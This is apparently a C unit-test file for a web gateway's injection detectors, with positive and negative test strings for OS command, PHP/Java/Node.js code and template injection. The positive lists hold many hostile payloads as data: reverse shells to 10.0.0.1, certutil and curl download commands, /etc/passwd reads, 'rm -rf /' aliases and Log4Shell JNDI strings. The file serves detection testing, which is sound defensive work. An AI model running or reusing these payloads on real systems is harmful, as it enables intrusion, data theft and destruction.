// SPDX-License-Identifier: GPL-2.0-only
/*
 * The code-injection detectors (OS commands, PHP/Java/Node.js code, server-side templates)
 * on normalised text: true positives, chat-like true negatives, and for every firing string
 * that one of the detector's anchors is in it (the soundness the kernel prefilter relies on).
 */
#include <ctype.h>
#include <stdio.h>
#include <string.h>
#include "wsg_test.h"
#include "detect.h"
#include "wsg_detect_check.h"

WSG_TEST_MAIN


/*
 * The detector's verdict on s as inspect.c would run it on a JSON string literal (anchors
 * matched with the quotes around it): -1 if it fires without one of its anchors.
 */
static int wsg_fires(wsg_detect_fn fn, const char *s)
{
	struct wsg_text t = { .s = s, .len = strlen(s), .quoted = 1 };
	struct wsg_hit h = {};

	if (!fn(&t, &h))
		return 0;
	if (!wsg_check_anchored(fn, s, 1)) {
		printf("#   fired without an anchor: %s (%s)\n", s, h.rule->id);
		return -1;
	}
	return 1;
}

#define CMDI(s) wsg_fires(wsg_detect_cmdi, s)
#define CODE(s) wsg_fires(wsg_detect_code, s)
#define SSTI(s) wsg_fires(wsg_detect_ssti, s)

/* Globs with many stars are matched in polynomial time (a fuzzer found an exponential case). */
WSG_TEST(cmdi_glob_many_stars_terminates)
{
	char s[160];
	int n = snprintf(s, sizeof(s), "<<{/p%s\xd6\xdf*****c2zvc", "****************************"
			 "**************");

	CHECK(n > 40, "input built");
	wsg_run(wsg_detect_cmdi, s, 0);
	wsg_run(wsg_detect_cmdi, "/*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b/passwd", 1);
	CHECK(wsg_run(wsg_detect_cmdi, "/\?\?\?/c?t /\?\?\?/p\?\?s\?\?", 1) &&
	      wsg_run(wsg_detect_cmdi, "/bin/c[a]t /etc/passwd", 1),
	      "globbed system paths still match");
}

WSG_TEST(code_php_positives)
{
	static const char *const pos[] = {
		"<?php echo 'x'; ?>", "<?= $x ?>", "[php]echo 1;[/php]", "{php}echo `id`;{/php}",
		"$_get['cmd']", "system('id')", "base64_decode()", "shell_exec=(bla)",
		"$__[_](24)", "${'a'}(11)", "('system')('whoami')", "(sy.(st).em)(@id)",
		"zip://archive.zip", "o:8:\"stdclass\":1:{s:1:\"a\";i:1;}", "shell.php..",
		"photo. php", "sess_d8ew88tqmabdcokhumchy8htqm", "allow_url_include=on",
		"gzuncompress/*x*/()", "foogzinflate()",
		"define('x', 'sys' . 'tem');(x)/* c */('uname');", "('sys'.'tem')('id')",
		"array_diff (", "sodium_crypto_aead_chacha20poly1305_ietf_keygen (",
		"a:2:{i:0;s:1:\"a\";i:1;b:1;}", "$f[0]('id')", "$func('ls')", "$ {'fdf'}",
		"$ {@_.__}(31);", "${$a}", "memory_limit = 512m", "display_errors=on",
		"user_ini.filename=x", "x.filename", "disable_classes =", NULL,
	};

	for (int i = 0; pos[i]; i++)
		CHECK(CODE(pos[i]) == 1, "php positive: %s", pos[i]);
}

/*
 * JSON structure and GraphQL text are no PHP: a nested object (":{"), "$name" variables,
 * snake_case keys that share pieces with php.ini names.
 */
WSG_TEST(code_json_negatives)
{
	static const char *const neg[] = {
		"{\"a\":{\"b\":1}}", "a:0:{}", "query ($t: string!, $room: id!)",
		"user_id=5", "error_code", "display_name=bob", "max_tokens=100", "connection_init",
		"filename", "the memory_limit  = is low", NULL,
	};

	for (int i = 0; neg[i]; i++)
		CHECK(CODE(neg[i]) == 0, "code negative: %s", neg[i]);
}

WSG_TEST(code_java_node_positives)
{
	static const char *const pos[] = {
		"java.lang.runtime", "test=java.io.bufferedreader", "runtime.invokertransformer",
		"ro0abxnyabfqyxz", "${jndi:ldap://x.y/a}", "${${lower:j}ndi:ldap://x/a}",
		"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "hj1bnrpbwu", "shell.jsp ",
		"require('child_process').exec('id')", "process.mainmodule.require('fs')",
		"this.constructor.constructor('return process')()", "console.info(1)",
		"while(!0);", "new function ('return 1')", "\"$1:__proto__:then\"", NULL,
	};

	for (int i = 0; pos[i]; i++)
		CHECK(CODE(pos[i]) == 1, "java/node positive: %s", pos[i]);
}

WSG_TEST(code_chat_negatives)
{
	static const char *const neg[] = {
		"try console.log(typeof null) and be amazed", "arr.map(x => x * 2).filter(boolean)",
		"import os; os.path.join('a', 'b')", "f(x) = 3x - 7", "file: report_final(2).pdf",
		"the ecosystem() call", "unable to lookup ubuntu via gethostbyname()",
		"http://www.example.com/drivers/downloads-ubuntu-x86.php", "richard.php@mail.com",
		"i like java.com and www.java.com", "export path=$home/bin:$path in your .bashrc",
		"prices: $4.99 (approx)", "while (foo) is bar.", "the '90s were wild",
		"sess_short", "<?xml version=\"1.0\"?>", "i need a new java runtime",
		"'sys' . 'tem' splits a word", "i like the array_ functions", "ini_set is handy",
		"define('greeting', 'hel' . 'lo')", NULL,
	};

	for (int i = 0; neg[i]; i++)
		CHECK(CODE(neg[i]) == 0, "code negative: %s", neg[i]);
}

WSG_TEST(ssti_positives)
{
	static const char *const pos[] = {
		"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}",
		"{% block body %}", "{{ value|e }}", "{{#with \"s\" as |string|}}",
		"<#assign ex = \"freemarker.template.utility.execute\"?new()>", "{$smarty.version}",
		"${t(java.lang.runtime).getruntime()}", "#{runtime.exec('id')}", "*{ ... }",
		"x.__class__.__mro__", "{{ request }}", NULL,
	};

	for (int i = 0; pos[i]; i++)
		CHECK(SSTI(pos[i]) == 1, "ssti positive: %s", pos[i]);
}

WSG_TEST(ssti_chat_negatives)
{
	static const char *const neg[] = {
		"{{ name }} is how handlebars prints a value", "in jinja you write {% for item in items %}",
		"the template literal is `hello ${name}`", "use ${home}/projects instead",
		"#{name}", "echo ${var:-default} and ${#arr[@]}", "the i18n string is '{count} new'",
		"i <3 you", "50% off, 100% sure", NULL,
	};

	for (int i = 0; neg[i]; i++)
		CHECK(SSTI(neg[i]) == 0, "ssti negative: %s", neg[i]);
}

WSG_TEST(cmdi_positives)
{
	static const char *const pos[] = {
		"; cat /etc/passwd", "whoami", "ifconfig", "\"ipconfig /all", "netstat -an",
		"cat /etc/passwd", "nohup ifconfig", "time whoami | sh",
		"net user hacker password1 /add", "dir c:\\users", "ls -l /etc/",
		"for /f \"delims=\" %i in ('set') do @echo %i", "if exist c:\\boot.ini echo pwnt",
		"if /i \"%var%\"==\"1\" echo x", "if %errorlevel% equ 2 goto end", "c''at /etc/hosts",
		"/usr/bin/id", "\\n/usr/bin/id", "nc -lvvp 4444 -e /bin/sh",
		"\r\nrcpt to:<postmaster>", "x\\r\\na01 search text \"string\"",
		"\r\napop corerulest 7d0a3bd8e5b", "\\r\\nquit",
		"if    not exist c:\\x   (cmd) else (cmd)",
		"& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (6+2)\\\"') do @set /p = x",
		"cat /[?]tc/pa[?]swd", "cat /etc/[p//]asswd", "cat+/et*/*wd", "/?\?\?/?s",
		"x;/bin/ca?+/et*/passwd", "x.com;c$*at+/et$*c/pas$*swd",
		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", ";which gcc", "which ncat",
		"which python3",
		"time; ansible all -m ping", "cd /;cd etc;column passwd",
		";vim dddd  silent\\\\ \\!whoami  wq", ";ex -c:\\!pwd",
		";\\n.shell nc 10.0.0.1 66 -e sh", "1;.\\\"shell whoami", "{cat,/etc/passwd}",
		"c{a,oun}t", "{id,}", "{n$u\\c$u,-nlvp,777}", "<(cat file)", ">(tee log)", "$[2+2]",
		"$(`dir`)", "c99 -wrapper sh,-c,curl x", "una$$me -a", "echo | ${gcc7.4}gcc7.4",
		"find /etc -name passwd -exec cat {} +", "a=nc&&$a -nlvp 555",
		"printf x|base64 -d|sh", "view=a.jpg&bcdboot/r file", "bin/ansible",
		"/usr/bin/python3 -m http.server", "'cscli' alerts list", "${shell} -c \"echo hi\"",
		"bash -c \"echo test\"", "$(($() 42))", ";date --file secrets.txt", "!-1!-2",
		";$a cat $a $at test.txt", "w\\ho\\am\\i", "%comspec% /c dir",
		"cmd.exe /c whoami", "powershell.exe -enc sqbfafga", "sh</dev/tcp/127.0.0.1/4242",
		"cat /e\"t\"c/pa\"s\"swd", "test\\nwhoami", "ncat 10.0.0.1 4444 -e /bin/bash",
		"socat tcp-connect:10.0.0.1:4444 exec:/bin/sh", "xterm -display 10.0.0.1:1",
		"telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
		"awk 'begin {s = \"/inet/tcp/0/10.0.0.1/4242\"}'", "1 & ping -n 10 127.0.0.1 &",
		"test | powershell -c get-process", "x | net localgroup administrators",
		"certutil -urlcache -split -f http://x/a.exe a.exe",
		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", "{,ifconfig,eth0}",
		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e?\?/p?\?s?\?,}", "\\ls",
		"chef report nodes", "time; aria2c http://x/y", ";rsync -av /etc x:",
		"id;", "id|cat /etc/passwd", "tasklist /v", "systeminfo", "uname -a",
		"net localgroup administrators", "ping -c 5 127.0.0.1", "ping -n 21 127.0.0.1",
		"curl http://x/a.sh", "alias ls='rm -rf /'", "perf --version",
		"ansible-playbook x.yml", "dir c:\\", "cat /proc/self/environ",
		"type c:\\boot.ini", "pip install evil",
		/* IMAP flags after a raw CRLF, "which" a tool, recon glued to ';', ansible */
		"\r\na1 append saved-messages (\\seen) {310}", "\r\nd store 2 +flags (\\deleted)\n",
		"which gcc", "which netcat", "which perl", "which wget", ";top something",
		"something else. after ;top something", "x;ifconfig eth0", "1;hostname",
		"ansible all -m ping", "'c'url localhost", "'w'g'e't http://x/a",
		"'c'at /etc/passwd",
		"\r\na001 status inbox (messages)\n", "\r\na001 authenticate plain\r\n",
		"\r\nz001 search charset windows-1252 deleted since 1-feb-1994\n",
		"\r\na003 fetch 12 body[header]", "\r\nrset", "\r\nstarttls", "\r\na023 logout",
		"\r\na932 examine blurdybloop", "\r\na202 expunge", "\r\na341 close",
		"set -o history", "set +o history", "x; set +o history; id", "unset histfile",
		"'ll' /var/www/", "'ls' -la", "'cat' /etc/hosts", "'id'",
		"https://example.com/?args=perf --version", "http://x/a.php?cmd=cat /etc/passwd",
		"\n ping -i 30 127.0.0.1 \n", NULL,
	};

	for (int i = 0; pos[i]; i++)
		CHECK(CMDI(pos[i]) == 1, "cmdi positive: %s", pos[i]);
}

WSG_TEST(cmdi_chat_negatives)
{
	static const char *const neg[] = {
		"use `ls -la` to see the hidden files", "run sudo apt update then reboot",
		"the id is 42", "cat pictures!", "ls -la", "ls -al ~/.xsession-errors",
		"sudo apt-get install gpg will install it.", "python3 -m venv .venv && source x",
		"which is the best video card?", "if anyone can help pm me", "!ntfs | net||abuse",
		"for i in `ls -1 /media`; do echo $i; done", "if not, try again", "time is money",
		"ping me when you're back", "cats & dogs; birds & fish",
		"thanks\r\nhelp me with this please", "\r\nuser name is bob", "\nquit",
		"hi\r\na01 search text \"string\"", "\r\nhelo there, how are you",
		"if    you    exist, say hi", "lars: ls /dev/sd*", "try ls /usr/bin/py*",
		"/dev/hd??",
		"see /etc/cron.*/* and /etc/init/*.conf", "/apps/options/splash_image??",
		"which python is best?", "which one?", "line one\nline two", "hi\nping me later",
		"thanks; ansible is great", "cd ~; cd projects; make", "vim x, then :!ls",
		"i love {cats,dogs}", "{\"a\":1,\"b\":2}", "find . -name x -exec rm {} \\;",
		"base64 -d file | less", "diff <(ls a) <(ls b)", "$[0]", "a=5 && $a is five",
		">(  angry", "/bin/sh: line 1: takes: command not found",
		"sudo sh -c 'echo 1 > /proc/sys/vm/drop_caches'", "what does $() do?",
		"what's the date -f option for?", "!-) lol", "x | $a cat",
		"my files are in c:\\users\\anna\\documents", "\\/etc that was",
		"is /dev/tcp a real file?", "telnet is old | bash is better", "tom & ping pong",
		"run xterm -display :0 on the box", "socat is like netcat",
		"cat /etc/hosts shows it", "i'd rather && go", "bash -c is how you run a string",
		"nc -l 1234 to test the port", "net user on windows lists accounts",
		"/usr/bin/python3 is the default", "mv file{,.bak}", "cp /etc/fstab{,.orig}",
		"head /etc/passwd shows users", "time; money is tight", ";-) ok",
		"a hero; more than",
		"i'm a chef",
		/* look-alikes of the techniques above */
		"thanks\r\ni copy (that) now", "hi\r\nd store (the box)",
		"which perl module do i need?", "with people like you", "which wget version?",
		"position:absolute;top:0", "a=1;set x", "ok;who knows", "see;top-level domain",
		"the responsible person", "left = 0;top = 5;", "user=x;pwd=y", "'i'd like that'",
		"'a' is a letter", "'s'ome", "line one\r\nsee you 1-feb-1994", "hi\r\ni create it",
		"\r\nthe 2 uid values", "hi\r\n2 logout buttons", "line\r\ni examine it",
		"usersettings", "\r\nrset the router", "set -o vi", "my histfile is big",
		"set -o  history", "the history of set -o history is long", "'ls' lists files",
		"'id' is the key", "'cat' or 'dog'", "http://x/?q=perf tuning --", "see ?a=ls -la",
		"http://x/search?q=cat pictures", "sudo dpkg -i foo.deb", "ping 127.0.0.1", NULL,
	};

	for (int i = 0; neg[i]; i++)
		CHECK(CMDI(neg[i]) == 0, "cmdi negative: %s", neg[i]);
}

/*
 * Whole values that are JSON keys or words a command starts like: the quote before "id",
 * "type", "time", "cat", "net", "dir" is no anchor (it would match JSON keys), so these
 * never fire.
 */
WSG_TEST(cmdi_json_key_values_pass)
{
	static const char *const neg[] = {
		"id", "type", "time", "timestamp", "category", "direction", "network", "current",
		"cursor", "task", "perpage", "system", "alias", "answer", "pin", "ping", "pipeline",
		"unauthorized", "id -a", "time who", "net view", "dir", NULL,
	};

	for (int i = 0; neg[i]; i++)
		CHECK(CMDI(neg[i]) == 0, "cmdi negative: %s", neg[i]);
}
